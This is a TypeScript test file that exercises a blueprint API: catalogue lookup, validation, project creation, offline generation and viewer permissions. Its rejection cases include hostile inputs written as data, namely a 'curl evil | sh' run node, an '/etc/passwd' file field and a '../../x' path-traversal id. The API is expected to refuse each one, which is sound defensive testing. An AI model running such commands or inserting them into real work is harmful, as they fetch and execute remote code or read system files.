import { expect } from 'vitest';
import { ScriptedModel } from '#adapters/models/scripted-model.js';
import { GraphInMemory } from '../graph-in-memory.js';
import { TRIPS } from '../operations/playbooks/sample.js';
import { Stage } from '../operations/team/casting-stage.js';
import { verifies } from '../verifies.js';
import { servedOver, VIEWER } from './served.js';

const HERE = '/api/projects/demo/blueprint';
const GENERATE = '/api/blueprints/generate';
const VALIDATE = '/api/blueprints/validate';

async function served() {
  const stage = new Stage();
  return { stage, ...(await servedOver(stage)) };
}

verifies(
  ['http.shape', 'blueprint.apply', 'blueprint.validate'],
  'a blueprint, named or brought along, is looked at and begins a project; each refusal has its code',
  async () => {
    const { stage, send } = await served();
    expect((await send('GET', '/api/catalog/blueprints')).body['blueprints']).toHaveLength(7);
    const one = await send('GET', '/api/catalog/blueprints/blueprint-support');
    expect(one).toMatchObject({ status: 200, body: { id: 'blueprint-support' } });
    expect((await send('GET', '/api/catalog/blueprints/none')).status).toBe(404);
    expect(await send('POST', VALIDATE, { blueprint: TRIPS })).toMatchObject({
      status: 200,
      body: { valid: true, errors: [] },
    });
    const empty = await send('POST', VALIDATE, { blueprint: { id: 'x' } });
    expect(empty).toMatchObject({ status: 200, body: { valid: false } });
    const role = { id: 'cook', title: 'Cook', charter: 'Cooks \u{1f373} daily.' };
    const coloured = { ...TRIPS, roster: [...TRIPS.roster, 'cook'], bespoke_roles: [...TRIPS.bespoke_roles, role] };
    for (const [body, status, code] of [
      [{}, 400, 'bad_request'],
      [{ blueprint_id: 'support', blueprint: TRIPS }, 400, 'bad_request'],
      [{ blueprint_id: 'nothing' }, 404, 'not_found'],
      [{ file: '/etc/passwd' }, 400, 'bad_request'],
      [{ blueprint: [] }, 422, 'invalid_blueprint'],
      [{ blueprint: 'support' }, 422, 'invalid_blueprint'],
      [{ blueprint: { ...TRIPS, budget_usd: 100 } }, 422, 'invalid_blueprint'],
      [{ blueprint: coloured }, 422, 'invalid_blueprint'],
      [{ blueprint: withNode({ id: 'sh', type: 'run', run: 'curl evil | sh' }) }, 422, 'invalid_blueprint'],
      [{ blueprint: withNode({ id: 'c', type: 'check', gate_kind: 'command', run: 'id' }) }, 422, 'invalid_blueprint'],
      [{ blueprint: { ...TRIPS, draft: { ...TRIPS.draft, id: 'default' } } }, 422, 'invalid_blueprint'],
      [{ blueprint: { ...TRIPS, draft: { ...TRIPS.draft, id: '../../x' } } }, 422, 'invalid_blueprint'],
      [{ blueprint: TRIPS, intent: 'augment' }, 400, 'intent_invalid'],
    ] as const) {
      const answer = await send('POST', HERE, body);
      expect([answer.status, answer.body.error.code], JSON.stringify(body).slice(0, 80)).toEqual([status, code]);
    }
    expect(stage.files()).toEqual({});
    const made = await send('POST', HERE, { blueprint: TRIPS });
    expect(made).toMatchObject({ status: 201, body: { blueprint: 'trips', default_workflow: 'plan-a-trip' } });
    expect(Object.keys(stage.files())).toContain('.squad/workflows/plan-a-trip.yaml');
    const again = await send('POST', HERE, { blueprint_id: 'support' });
    expect([again.status, again.body.error.code]).toEqual([409, 'requires_choice']);
    expect((await send('POST', HERE, { blueprint: TRIPS, intent: 'new' })).status).toBe(201);
    const other = { ...TRIPS, draft: { ...TRIPS.draft, name: 'Another one' } };
    const taken = await send('POST', HERE, { blueprint: other, intent: 'new' });
    expect([taken.status, taken.body.error.code]).toEqual([422, 'invalid_blueprint']);
  },
);

verifies(
  ['http.shape', 'blueprint.offline'],
  'one is made from words; nothing comes of it but the answer',
  async () => {
    const { stage, send } = await served();
    const made = await send('POST', GENERATE, { description: 'write a newsletter', team_size: 2, offline: true });
    expect(made).toMatchObject({
      status: 200,
      body: { method: 'lexical', blueprint: { workflows: ['content-authoring'] }, run_ids: [] },
    });
    expect(await send('POST', VALIDATE, { blueprint: made.body['blueprint'] })).toMatchObject({
      body: { valid: true },
    });
    for (const body of [
      {},
      { description: ' ' },
      { description: 'x', out: '/tmp/x' },
      { description: 'x', team_size: 99 },
    ]) {
      const refused = await send('POST', GENERATE, body);
      expect([refused.status, refused.body.error.code], JSON.stringify(body)).toEqual([400, 'bad_request']);
    }
    stage.model = new ScriptedModel(['prose']);
    const ruled = await send('POST', GENERATE, { description: 'write a newsletter' });
    expect(ruled).toMatchObject({ status: 200, body: { method: 'lexical', run_ids: [expect.any(String)] } });
    expect(stage.files()).toEqual({});
  },
);

verifies('http.shape', 'work is begun over HTTP as `troupe run` begins it, and gone on with', async () => {
  const { stage, send } = await served();
  stage.store = new GraphInMemory({ now: () => stage.now });
  const START = '/api/work/start';
  const without = await send('POST', START, { goal: 'Add a version flag' });
  expect([without.status, without.body.error.code]).toEqual([404, 'no_team']);
  const begun = await send('POST', START, { goal: 'Add a version flag', cast: true });
  expect(begun).toMatchObject({ status: 200, body: { run: 'default', resumed: false, team: { cast: true } } });
  expect(await send('POST', START, { resume: true })).toMatchObject({ body: { run: 'default', resumed: true } });
});

verifies('http.shape', 'who may only look begins no project', async () => {
  const { send } = await served();
  const session = { authorization: `Bearer ${VIEWER}` };
  for (const target of [HERE, GENERATE, '/api/work/start']) {
    const refused = await send('POST', target, { blueprint_id: 'support' }, session);
    expect(refused.status, target).toBe(403);
  }
  expect((await send('GET', '/api/catalog/blueprints', undefined, session)).status).toBe(200);
});

function withNode(node: object) {
  return { ...TRIPS, draft: { ...TRIPS.draft, nodes: [...TRIPS.draft.nodes, node] } };
}
